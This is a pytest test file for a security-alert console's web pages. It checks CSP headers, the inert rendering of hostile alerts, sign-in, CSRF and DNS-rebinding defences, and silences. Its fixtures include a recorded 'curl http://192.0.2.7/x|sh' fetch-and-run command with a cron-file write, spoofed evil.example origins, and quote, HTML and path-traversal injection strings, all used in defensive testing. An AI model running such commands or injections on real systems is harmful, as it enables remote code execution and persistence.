"""The console's pages over HTTP: what they show, who may see them, and what forms do."""

from __future__ import annotations

import json
import re
import socket
from datetime import datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlencode
from zoneinfo import ZoneInfo

import pytest
import requests
from msgspec.structs import replace

from bridge.alert.command import COMMAND_RULE
from bridge.console.app import Console, console_app
from bridge.console.backtest.runs import Backtests
from bridge.console.data.reader import Reader
from bridge.console.pages import search
from bridge.console.view import in_utc
from bridge.console.visitors.access import Access
from bridge.journal.opening import open_for_router
from bridge.operator.client import AdminClient
from bridge.operator.serving.connection import ServedSockets
from bridge.routing import Entry, Routed
from bridge.workbench.condition import LoadedCondition, load_condition
from tests.channels.hostile import CORPUS, WORD
from tests.console.conftest import Visitor
from tests.e2e.harness import Instance
from tests.operator.serving import ask_unix, served, unix_sockets
from tests.support.builders import alert
from tests.support.waiting import wait_until

PAGES = ("/", "/search?condition=", "/tail", "/routes", "/channels", "/silences", "/backtest", "/sessions")


class Elements(HTMLParser):
    """The elements and attributes of a page, as a browser would see them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: set[str] = set()
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses |= {value or "" for name, value in attrs if name in {"href", "src", "action"}}


def alert_paths(visitor: Visitor, condition: str) -> list[str]:
    text = visitor.get(f"/search?{urlencode({'condition': condition})}").text
    return list(dict.fromkeys(re.findall(r"/alerts/[0-9a-f]{32}", text)))


@pytest.mark.parametrize("path", PAGES)
def test_every_page_is_strict_about_what_a_browser_may_do(visitor: Visitor, path: str) -> None:
    """No script but its own file, no other host, no storage in caches."""
    answer = visitor.get(path)
    assert answer.status_code == 200
    policy = answer.headers["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'")
    assert "unsafe" not in policy
    assert "require-trusted-types-for 'script'" in policy
    assert answer.headers["Cache-Control"] == "no-store"
    found = Elements(answer.text)
    assert not {name for name in found.attributes if name.startswith("on") or name == "style"}
    assert all(
        address.startswith("/") and not address.startswith("//") for address in found.addresses if address != "#main"
    )


def test_hostile_alerts_are_shown_as_text(visitor: Visitor) -> None:
    """In the list and on the page of each: no element, attribute or control character is theirs."""
    paths = alert_paths(visitor, "rule startswith hostile")
    assert len(paths) == len(CORPUS)
    for path in ["/search?condition=rule+startswith+hostile", *paths]:
        answer = visitor.get(path)
        assert answer.status_code == 200
        assert WORD in answer.text
        found = Elements(answer.text)
        assert not found.names & {"img", "iframe", "object"}
        assert not {name for name in found.attributes if name.startswith("on") or name == "style"}
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202e\u2066-\u2069]", answer.text)
        assert len(answer.text) < 400_000


def test_an_incident_says_what_where_and_who(visitor: Visitor) -> None:
    """Rule, place and deed of its latest alert, at most 100 incidents; what was held back. All of it is inert."""
    text = visitor.get("/").text
    cards = re.findall(r'<li class="card">.*?</li>', text, re.DOTALL)
    assert len(cards) == len(CORPUS)
    (card,) = [re.sub(r"<[^>]+>", "", each) for each in cards if "ticks on node" in each]
    assert "hostile ticks" in card
    assert "1 alert; open for" in card
    assert "notified: pager" in card
    assert re.search(r"<h2>Held back</h2>\s*<p>(Nothing since|<a href)", text)
    found = Elements(text)
    assert not found.names & {"img", "iframe", "object", "b"}
    assert not {name for name in found.attributes if name.startswith("on") or name == "style"}
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202e\u2066-\u2069]", text)


@pytest.mark.parametrize(
    ("detail", "shown"),
    [
        (
            "2 sent since 11:20:42, next at 12:20, 9 held back",
            "2 sent since 11:20:42 UTC, next at 12:20 UTC, 9 held back",
        ),
        ("waits until 2026-01-02 10:00 UTC", "waits until 2026-01-02 10:00 UTC"),
        ("mon-fri 09:00-18:00", "mon-fri 09:00-18:00"),
    ],
)
def test_times_of_decisions_say_that_they_are_utc(detail: str, shown: str) -> None:
    """Beside times in the visitor's zone."""
    assert in_utc(detail) == shown


def test_an_alert_has_its_decisions_and_deliveries(visitor: Visitor) -> None:
    """As `show` prints them."""
    (path,) = alert_paths(visitor, "k8s.pod.name = ticks")
    text = visitor.get(path).text
    assert "hostile" in text
    assert "delivered" in text
    assert ">sent<" in text
    assert visitor.get("/alerts/" + "0" * 32).status_code == 404


def test_routes_have_hits_and_lead_to_a_backtest(visitor: Visitor) -> None:
    """In the last hour, day and week, and when the last one was."""
    wait_until(lambda: "still being read" not in visitor.get("/routes").text, "the routes on the disk")
    text = visitor.get("/routes").text
    row = text[text.index(">hostile</a>") :]
    row = row[: row.index("</tr>")]
    assert re.findall(r'<td class="number">([^<]*)</td>', row)[:3] == [str(len(CORPUS))] * 3
    assert "<time datetime=" in row
    assert "/backtest?file=" in row
    assert "The oldest stored alert was received" in text


def test_a_wrong_question_is_explained(visitor: Visitor) -> None:
    """With the checker's words, as text."""
    text = visitor.get("/search?" + urlencode({"condition": "k8s.ns.nam = <b>"})).text
    assert "did you mean `k8s.ns.name`?" in text
    assert "<b>" not in text
    assert "is not a time" in visitor.get("/search?since=whenever").text


def test_a_time_that_is_typed_is_in_the_zone_of_the_browser(visitor: Visitor) -> None:
    """A script writes that into the form; in 12 hours' distance from UTC, the next hour there is long past here."""
    soon = (datetime.now(ZoneInfo("Etc/GMT+12")) + timedelta(hours=1)).strftime("%Y-%m-%d %H:%M")
    for zone, found in (("Etc/GMT+12", False), ("UTC", True)):
        text = visitor.get(f"/search?{urlencode({'since': soon, 'zone': zone})}").text
        assert bool(re.search(r"/alerts/[0-9a-f]{32}", text)) == found
        assert f'name="zone" value="{zone}"' in text


def test_sessions_show_what_was_typed(visitor: Visitor) -> None:
    """The recorded session, with the file that was written."""
    text = visitor.get("/sessions").text
    assert "curl http://192.0.2.7/x|sh" in text
    assert "/etc/cron.d/x" in text
    session = re.search(r"/sessions\?session=[^\"]+", text)
    assert session is not None
    assert "cd /etc/cron.d" in visitor.get(session[0]).text


@pytest.mark.parametrize("identity", ["../silences", "a/b", "..", "?x#y", " x ", '"><b>'])
def test_a_session_leads_to_itself(tmp_path: Path, identity: str) -> None:
    """Its name comes from an alert, which anybody may have sent."""
    path, journal = tmp_path / "c.sock", tmp_path / "j.db"
    fields = {"cmd.session": identity, "cmd.text": "whoami", "cmd.ran": "whoami-ran"}
    writing = open_for_router(journal)
    writing.alerts.append("s", 1, [Entry(alert(rule=COMMAND_RULE, fields=fields), Routed((), ()))])
    writing.close()
    console = Console(Reader(journal), AdminClient(tmp_path / "a"), Access(is_unix=True), Backtests("c.yaml"))
    with served(ServedSockets(unix_sockets(path), console_app(console))):
        text = ask_unix(path, "GET", "/sessions")[2].decode()
        (link,) = (each for each in Elements(text).addresses if each.startswith("/sessions?"))
        assert "whoami-ran" in ask_unix(path, "GET", link)[2].decode()


@pytest.mark.parametrize("before", ["\u00b2", "9" * 19, "9" * 5000, "-1", "x"])
def test_a_place_that_is_no_number_is_no_error(visitor: Visitor, before: str) -> None:
    """The pages begin with the newest then."""
    for path in ("/search?condition=&", "/sessions?"):
        assert visitor.get(f"{path}before={before}").status_code == 200


def test_nothing_is_shown_before_the_sign_in(visitor: Visitor) -> None:
    """No page, no act, no cookie; a wrong token is refused."""
    for path in (*PAGES, "/tail/events"):
        answer = requests.get(f"{visitor.url}{path}", timeout=60, allow_redirects=False)
        assert (answer.status_code, answer.headers["Location"]) == (303, "/sign-in")
        assert "Set-Cookie" not in answer.headers
    answer = requests.post(
        f"{visitor.url}/silences/add", {"condition": "rule exists"}, timeout=60, allow_redirects=False
    )
    assert answer.status_code == 303
    wrong = requests.post(f"{visitor.url}/sign-in", {"token": visitor.token[:-1]}, timeout=60)
    assert wrong.status_code == 403
    assert "Set-Cookie" not in wrong.headers


def test_the_cookie_is_for_this_site_only(visitor: Visitor) -> None:
    """HttpOnly and SameSite=Strict."""
    answer = requests.post(f"{visitor.url}/sign-in", {"token": visitor.token}, timeout=60, allow_redirects=False)
    assert {"httponly", "samesite=strict", "path=/"} <= set(answer.headers["Set-Cookie"].lower().split("; "))


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://evil.example"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Host": "evil.example"},
        {"Origin": "null"},
    ],
)
def test_pages_of_other_sites_cannot_act(visitor: Visitor, headers: dict[str, str]) -> None:
    """By form, by script and by DNS rebinding."""
    answer = visitor.post("/silences/add", {"condition": "rule exists", "for": "1h"}, **headers)
    assert answer.status_code == 403
    assert "rule exists" not in visitor.get("/silences").text


def test_a_form_without_its_mark_is_refused(visitor: Visitor) -> None:
    """Another site does not know the mark."""
    answer = visitor.session.post(f"{visitor.url}/silences/add", {"condition": "rule exists", "mark": "0"}, timeout=60)
    assert answer.status_code == 403


def test_a_console_without_write_is_read_only(reader: Visitor) -> None:
    """No button on its pages, and no act if one posts it."""
    assert "<button>Acknowledge" not in reader.get("/").text
    answer = reader.post("/silences/add", {"condition": "rule exists", "for": "1h"})
    assert answer.status_code == 403
    assert "--write" in answer.text


def test_a_silence_is_added_and_ended(visitor: Visitor) -> None:
    """With what it would have held back and the same as a command."""
    query = urlencode({"condition": 'k8s.pod.name = "ticks"', "for": "30m", "comment": "it's planned"})
    text = visitor.get(f"/silences?{query}").text
    assert "would have held back 1 alert." in text
    assert "falco-bridge silence add" in text
    form = {"condition": 'k8s.pod.name = "ticks"', "for": "30m", "comment": "it's planned"}
    assert visitor.post("/silences/add", form).status_code == 303
    text = visitor.get("/silences").text
    assert "it&#39;s planned" in text
    silence = re.search(r'name="silence" value="(\w+)"', text)
    assert silence is not None
    assert visitor.post("/silences/expire", {"silence": silence[1]}).status_code == 303
    assert ">ended<" in visitor.get("/silences").text
    assert visitor.post("/silences/add", {"condition": "rule =", "for": "1h"}).status_code == 409
    assert "is not a duration" in visitor.post("/silences/add", {"condition": "rule exists", "for": "soon"}).text


def test_the_log_is_that_of_the_config(bridge: Instance, visitor: Visitor) -> None:
    """JSON where no terminal reads it, and with secrets masked, as that of the bridge."""
    assert visitor.post("/silences/add", {"condition": "rule = logged", "for": "1m"}).status_code == 303
    lines = (bridge.folder / "console.log").read_text(encoding="utf-8").splitlines()
    logged = [json.loads(each) for each in lines if "console action" in each]
    assert {"/silences/add"} <= {each["action"] for each in logged}


@pytest.mark.parametrize("body", [b"token=" + b"x" * 100_000, b"token=\xff", b"&".join([b"a=b"] * 60)])
def test_a_sign_in_that_is_no_form_is_refused(bridge: Instance, visitor: Visitor, body: bytes) -> None:
    """It is no fault of the console: strangers could fill its log with tracebacks."""
    answer = requests.post(f"{visitor.url}/sign-in", body, timeout=60)
    assert (answer.status_code, "Not accepted" in answer.text) == (403, True)
    assert "request failed" not in (bridge.folder / "console.log").read_text(encoding="utf-8")


def test_sign_ins_are_logged(bridge: Instance, visitor: Visitor) -> None:
    """Also those that are refused, with the address."""
    assert requests.post(f"{visitor.url}/sign-in", {"token": "a guess"}, timeout=60).status_code == 403
    log = (bridge.folder / "console.log").read_text(encoding="utf-8")
    assert re.search(r'"address": "127.0.0.1", "event": "sign-in refused"', log)
    assert re.search(r'"visitor": "token from 127.0.0.1", "event": "signed in"', log)
    assert "a guess" not in log


def test_the_answer_to_a_test_message_is_shown(visitor: Visitor) -> None:
    assert visitor.post("/channels/test", {"channel": "pager"}).status_code == 303
    assert re.search(r"Test message of .{,200}: delivered after ", visitor.get("/channels").text, re.DOTALL)
    assert visitor.post("/channels/test", {"channel": "unknown"}).status_code == 409


def test_an_incident_is_acknowledged(visitor: Visitor) -> None:
    """And is listed below the open ones afterwards."""
    incident = re.search(r'name="incident" value="([^"]+)"', visitor.get("/").text)
    assert incident is not None
    assert visitor.post("/incidents/acknowledge", {"incident": incident[1]}).status_code == 303
    wait_until(lambda: "acknowledged by" in visitor.get("/").text, "the acknowledgement")


def test_the_tail_sends_what_is_stored(bridge: Instance, visitor: Visitor) -> None:
    """Only what meets the condition, as server-sent events."""
    query = urlencode({"condition": "k8s.pod.name = tailed"})
    with visitor.session.get(f"{visitor.url}/tail/events?{query}", stream=True, timeout=60) as answer:
        lines = answer.iter_lines()
        next(lines)
        with (bridge.folder / "alerts.jsonl").open("a", encoding="utf-8") as file:
            for pod in ("other", "tailed"):
                file.write(
                    '{"output": "x", "priority": "Notice", "rule": "tail", "source": "syscall", "time": '
                    f'"2026-11-27T11:00:00.000000001Z", "output_fields": {{"k8s.pod.name": "{pod}"}}}}\n'
                )
        found = next(line for line in lines if b'"rule"' in line)
    assert found.count(b'"rule"') == 1


@pytest.mark.parametrize("path", ["/tail/events", "/api/v1/tail?interval=0.2"])
def test_a_stream_ends_with_the_session(visitor: Visitor, path: str) -> None:
    """It could show alerts for as long as it stays open."""
    session = requests.Session()
    assert session.post(f"{visitor.url}/sign-in", {"token": visitor.token}, timeout=60).status_code == 200
    with session.get(f"{visitor.url}{path}", stream=True, timeout=60) as answer:
        lines = answer.iter_lines()
        next(lines)
        mark = re.search(r'name="mark" value="(\w+)"', session.get(f"{visitor.url}/", timeout=60).text)
        assert mark is not None
        session.post(f"{visitor.url}/sign-out", {"mark": mark[1]}, timeout=60)
        for count, _ in enumerate(lines):
            assert count < 40


@pytest.mark.parametrize("path", ["/search/?condition=x", "/sessions/", "/api/v1/status/", "//evil.example/search"])
def test_no_address_leads_to_another_host(visitor: Visitor, path: str) -> None:
    """Nor from https to http, as a redirect that is made of the request would."""
    answer = requests.get(f"{visitor.url}{path}", headers={"Host": "evil.example"}, timeout=60, allow_redirects=False)
    assert answer.status_code == 404
    assert "Location" not in answer.headers


def test_the_sign_in_can_be_looked_at(visitor: Visitor) -> None:
    """A HEAD is no attempt with a wrong token."""
    assert requests.head(f"{visitor.url}/sign-in", timeout=60).status_code == 200


def test_the_console_listens_beyond_this_machine_only_when_named(bridge: Instance) -> None:
    """Without --host it refuses, and says what to do."""
    process = bridge.start("console", "--config", "falco-bridge.yaml", "--listen", "0.0.0.0:0", output="refused.log")
    assert process.wait(60) == 2
    assert "add --host NAME" in (bridge.folder / "refused.log").read_text(encoding="utf-8")


def test_a_unix_socket_needs_no_token(bridge: Instance) -> None:
    """The kernel names the visitor."""
    path = bridge.folder / "run" / "c.sock"
    bridge.start("console", "--config", "falco-bridge.yaml", "--unix", str(path), output="unix.log")
    wait_until(lambda: "serving" in (bridge.folder / "unix.log").read_text(encoding="utf-8"), "the console")
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(60)
        client.connect(str(path))
        client.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        answer = b""
        while piece := client.recv(65536):
            answer += piece
    assert answer.startswith(b"HTTP/1.1 200")
    assert b"Open incidents" in answer


@pytest.mark.parametrize(
    "rule", ['say "hi"', "a\\b", "plain", 'x" or rule exists or rule = "', "\N{RIGHT-TO-LEFT OVERRIDE}x", ""]
)
def test_a_silence_that_is_offered_holds_for_no_other_rule(rule: str) -> None:
    """For any quotes in a rule. Where its name hides characters, none is offered."""
    this, other = (replace(alert(1), rule=each, fields={"k8s.ns.name": 'a"b'}) for each in (rule, "another"))
    condition = search._like(this)
    if not rule.isprintable() or not rule:
        assert condition == ""
        return
    loaded = load_condition(condition, [], {})
    assert isinstance(loaded, LoadedCondition)
    assert loaded.predicate(this)
    assert not loaded.predicate(other)


def test_a_command_with_hidden_characters_is_not_offered(reader: Visitor) -> None:
    """What somebody copies is what they see."""
    shown = reader.get("/silences?" + urlencode({"condition": "rule = x"})).text
    assert "<pre>falco-bridge silence add &#39;rule = x&#39;" in shown
    hidden = reader.get("/silences?" + urlencode({"condition": 'rule = "\N{RIGHT-TO-LEFT OVERRIDE}x"'})).text
    assert "It would have held back" in hidden
    assert "<pre>" not in hidden
